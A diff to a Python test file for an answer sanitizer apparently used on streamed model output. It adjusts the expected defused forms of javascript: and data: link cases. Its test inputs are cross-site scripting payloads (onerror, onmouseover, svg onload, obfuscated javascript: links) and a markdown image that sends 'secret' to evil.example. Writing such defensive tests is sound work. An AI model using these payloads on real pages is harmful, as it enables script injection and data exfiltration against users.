@@ -29,9 +29,9 @@ def stream(pieces: list[str], policy: Policy = "allow") -> tuple[str, AnswerScre
     ("x <img src=x onerror=alert(1)>", "x &lt;img src=x onerror=alert(1)>"),
     ("<b onmouseover=x>", "&lt;b onmouseover=x>"),
     ("![data](https://evil.example/?q=secret)", "[data](https://evil.example/?q=secret)"),
-    ("[click](javascript:alert(1))", "[click](#javascript-alert(1))"),
-    ("[click]( JaVaScRiPt :alert(1))", "[click]( #JaVaScRiPt-alert(1))"),
-    ("[1]: data:text/html;base64,x", "[1]: #data-text/html;base64,x"),
+    ("[click](javascript:alert(1))", "[click](#javascript:alert(1))"),
+    ("[click]( JaVaScRiPt :alert(1))", "[click]( #JaVaScRiPt :alert(1))"),
+    ("[1]: data:text/html;base64,x", "[1]: #data:text/html;base64,x"),
     ("<svg/onload=x>", "&lt;svg/onload=x>"),
 ])  # fmt: skip
 def test_active_markup_is_defused_and_said_so(answer: str, shown: str) -> None:
